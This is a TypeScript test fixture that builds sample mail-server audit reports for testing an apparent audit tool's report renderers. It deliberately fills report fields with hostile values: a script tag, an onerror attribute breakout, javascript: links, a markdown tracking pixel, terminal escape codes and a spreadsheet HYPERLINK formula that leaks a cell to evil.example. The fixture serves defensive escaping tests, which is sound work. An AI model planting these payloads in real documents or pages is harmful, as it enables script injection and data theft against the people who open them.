/**
 * Audit reports built by hand for the report renderers' tests: every severity, a record to publish,
 * provider steps, a score, a transcript, and hostile server text in every field a server or DNS record
 * can reach.
 */
import type { AuditReport } from '../../preload/contract/audit';
import type { AuditCoverage } from '../../preload/contract/coverage';
import { assembleReport, type ReportBody } from '../../main/core/audit/assemble-report';
import type { Finding } from '../../preload/contract/findings';

/** What a hostile DNS record or SMTP reply might say, aimed at whoever opens the report. */
export const HOSTILE_SCRIPT = '<script>alert("pwned")</script>';
export const HOSTILE_ATTRIBUTE = '"><img src=x onerror=alert(1)>';
export const HOSTILE_FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
export const HOSTILE_MARKDOWN =
  '# Heading\n- item ![track](https://evil.example/pixel.png) [x](javascript:alert(1)) | cell |';
/** ESC [2J clears a terminal; U+202E reverses the text that follows. */
export const HOSTILE_CONTROLS = 'before\u001b[2Jafter\u202eesrever';

export function finding(overrides: Partial<Finding> & Pick<Finding, 'id' | 'severity'>): Finding {
  return {
    checkId: `check:${overrides.id}`,
    title: `Title of ${overrides.id}`,
    evidence: { host: 'smtp.example.com' },
    explanation: `Explanation of ${overrides.id}.`,
    fix: { steps: overrides.severity === 'pass' ? [] : [`First step for ${overrides.id}`, 'Second step'] },
    references: [
      { label: 'RFC 5321 section 3.9', url: 'https://www.rfc-editor.org/rfc/rfc5321#section-3.9' },
    ],
    ...overrides,
  };
}

/** Every check ran except DANE, which timed out: the encryption area is partly tested. */
export const SAMPLE_COVERAGE: AuditCoverage = {
  checks: [
    ['smtp-reach:smtp.example.com', 'smtp'],
    ['tls:smtp.example.com:587', 'tls'],
    ['auth:smtp.example.com:587', 'auth'],
    ['relay:smtp.example.com:587', 'relay'],
    ['spf:example.com', 'dns'],
    ['dmarc:example.com', 'dns'],
    ['mx:example.com', 'dns'],
    ['dane:example.com', 'dns'],
  ].map(([checkId = '', area]) => ({
    checkId,
    title: `Check ${checkId}`,
    area: area as 'smtp' | 'tls' | 'auth' | 'relay' | 'dns',
    status: checkId.startsWith('dane:') ? ('timed-out' as const) : ('ran' as const),
    blockedBy: null,
  })),
  blockers: [],
};

/** A report as an audit would assemble it: its score and fix plan computed from its findings. */
export function sampleReport(overrides: Partial<AuditReport> = {}): AuditReport {
  const body: ReportBody = {
    tool: { name: 'Mailwarden', version: '0.1.0' },
    target: {
      kind: 'account',
      label: 'ann@example.com',
      domain: 'example.com',
      host: 'smtp.example.com',
      port: 587,
      security: 'starttls',
    },
    startedAt: '2026-11-27T10:00:00.000Z',
    finishedAt: '2026-11-27T10:00:01.400Z',
    cancelled: false,
    findings: [
      finding({
        id: 'relay.open',
        severity: 'critical',
        title: 'smtp.example.com is an open relay',
        evidence: {
          host: 'smtp.example.com',
          port: 587,
          tls: true,
          mailReply: { code: 250, text: '2.1.0 Ok' },
          capabilities: ['PIPELINING', 'AUTH PLAIN'],
          nothing: null,
        },
        fix: {
          steps: ['Allow relaying only for logged-in users.'],
          providerSteps: { postfix: ['Set smtpd_relay_restrictions.'] },
        },
      }),
      finding({
        id: 'dmarc.record.missing',
        severity: 'high',
        fix: {
          steps: ['Publish a DMARC record.'],
          record: {
            type: 'TXT',
            name: '_dmarc.example.com',
            value: 'v=DMARC1; p=none; rua=mailto:d@example.com',
          },
        },
      }),
      finding({
        id: 'spf.record.hostile',
        severity: 'medium',
        title: `SPF says ${HOSTILE_SCRIPT}`,
        explanation: `The record reads ${HOSTILE_ATTRIBUTE} and ${HOSTILE_MARKDOWN}`,
        evidence: {
          record: HOSTILE_SCRIPT,
          banner: HOSTILE_ATTRIBUTE,
          formula: HOSTILE_FORMULA,
          controls: HOSTILE_CONTROLS,
          [HOSTILE_SCRIPT]: 'key from a server',
        },
        fix: {
          steps: [HOSTILE_FORMULA, 'Second'],
          record: { type: 'TXT', name: 'x', value: '```\n# not a heading' },
        },
        references: [
          { label: 'Hostile link', url: 'javascript:alert(1)' },
          { label: HOSTILE_ATTRIBUTE, url: 'https://example.com/ok' },
        ],
      }),
      finding({ id: 'tls-rpt.record.missing', severity: 'low' }),
      finding({ id: 'smtp.ext.size.absent', severity: 'info' }),
      finding({ id: 'tls.protocol.modern', severity: 'pass', title: 'Only TLS 1.2 and 1.3 are accepted' }),
      finding({ id: 'spf.record.found', severity: 'pass', title: 'The domain has an SPF record' }),
    ],
    transcript: [
      {
        at: '2026-11-27T10:00:00.100Z',
        elapsedMs: 100,
        direction: 'server',
        connection: 'smtp.example.com:587',
        text: `220 ${HOSTILE_SCRIPT} ESMTP`,
      },
      {
        at: '2026-11-27T10:00:00.200Z',
        elapsedMs: 200,
        direction: 'client',
        connection: 'smtp.example.com:587',
        text: 'AUTH PLAIN <redacted>',
      },
    ],
    coverage: SAMPLE_COVERAGE,
  };
  const { schemaVersion: _version, score: _score, plan: _plan, ...bodyOverrides } = overrides;
  return { ...assembleReport({ ...body, ...bodyOverrides }), ...overrides };
}
